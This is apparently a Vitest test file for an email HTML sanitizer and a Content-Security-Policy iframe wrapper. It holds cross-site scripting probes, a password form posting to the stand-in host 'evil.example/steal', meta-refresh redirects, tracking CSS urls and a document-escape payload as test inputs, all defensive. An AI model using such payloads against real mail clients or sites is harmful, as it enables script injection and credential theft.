// @vitest-environment jsdom
import { describe, expect, it } from 'vitest'
import { emailFrameDocument, FRAME_POLICY, FRAME_POLICY_REMOTE, sanitizeEmailHtml } from './email-frame'

const clean = (html: string, remoteImages = false) => sanitizeEmailHtml(html, { remoteImages }).html

describe('sanitizeEmailHtml', () => {
  it('removes scripts, event handlers and script URLs', () => {
    const html = clean(
      '<p onclick="alert(1)">Hi</p><script>alert(2)</script><img src="data:image/png;base64,AA" onerror="alert(3)"><a href="javascript:alert(4)">x</a><a href="data:text/html,<script>alert(5)</script>">y</a>',
    )
    expect(html).not.toMatch(/script|onclick|onerror|alert|javascript:|data:text/i)
    expect(html).toContain('<p>Hi</p>')
    expect(html).toContain('src="data:image/png;base64,AA"')
  })

  it('removes forms, frames, base, meta refresh, links, objects and SVG', () => {
    const html = clean(
      '<form action="https://evil.example/steal"><input name="pw"><button formaction="https://evil.example">Go</button></form><base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example"><link rel="stylesheet" href="https://evil.example/x.css"><iframe src="https://evil.example"></iframe><object data="x.swf"></object><embed src="x"><svg onload="alert(1)"><script>alert(2)</script><image href="https://evil.example/i.png"/></svg><p>kept</p>',
    )
    expect(html).not.toMatch(/form|input|button|base|meta|link|iframe|object|embed|svg|evil\.example/i)
    expect(html).toContain('<p>kept</p>')
  })

  it('drops CSS that loads or runs anything, and keeps the rest', () => {
    const html = clean(
      '<style>@import url(https://evil.example/a.css); p { color: red }</style><p style="background:url(https://evil.example/t.gif)">a</p><p style="width: expression(alert(1))">b</p><p style="color: blue">c</p>',
    )
    expect(html).not.toMatch(/evil\.example|expression|@import/)
    expect(html).toContain('<p style="color: blue">c</p>')
  })

  it('holds remote images back until asked, and then lets only https ones through', () => {
    const body =
      '<img src="https://cdn.example/logo.png" alt="Logo"><img src="http://plain.example/p.gif"><img src="//cdn.example/x.png"><img src="cid:logo@line">'
    const held = sanitizeEmailHtml(body)
    expect(held.remoteImages).toBe(3)
    expect(held.html).not.toMatch(/ src="(https?:)?\/\//)
    expect(held.html).toContain('data-remote-src="https://cdn.example/logo.png"')
    expect(held.html).toContain('alt="Logo"')
    expect(held.html).toContain('src="cid:logo@line"')
    const shown = sanitizeEmailHtml(body, { remoteImages: true })
    expect(shown.html).toContain('src="https://cdn.example/logo.png"')
    expect(shown.html).not.toContain(' src="http://plain.example')
    expect(shown.remoteImages).toBe(2)
  })

  it('makes links inert in the frame: no opener, no referrer', () => {
    expect(clean('<a href="https://line.example/track">Track</a>')).toBe(
      '<a href="https://line.example/track" target="_blank" rel="noopener noreferrer">Track</a>',
    )
  })
})

describe('emailFrameDocument', () => {
  it('puts its own Content-Security-Policy before the sanitized body', () => {
    const { srcdoc } = emailFrameDocument('<p>Hello</p><script>alert(1)</script>')
    const policy = FRAME_POLICY.replaceAll("'", "'")
    expect(srcdoc.indexOf(`content="${policy}"`)).toBeGreaterThan(0)
    expect(srcdoc.indexOf('http-equiv="Content-Security-Policy"')).toBeLessThan(srcdoc.indexOf('<body>'))
    expect(srcdoc).toContain('<body><p>Hello</p></body>')
    expect(srcdoc).not.toContain('script')
  })

  it('allows https images in its policy only when remote images are shown', () => {
    expect(emailFrameDocument('<p>x</p>').srcdoc).not.toContain('https:')
    expect(emailFrameDocument('<p>x</p>', { remoteImages: true }).srcdoc).toContain(FRAME_POLICY_REMOTE)
  })

  it('cannot be broken out of by a body that closes the document', () => {
    const { srcdoc } = emailFrameDocument('</body></html><script>alert(1)</script><p>after</p>')
    expect(srcdoc).not.toContain('script')
    expect(srcdoc.match(/<\/body>/g)).toHaveLength(1)
  })
})
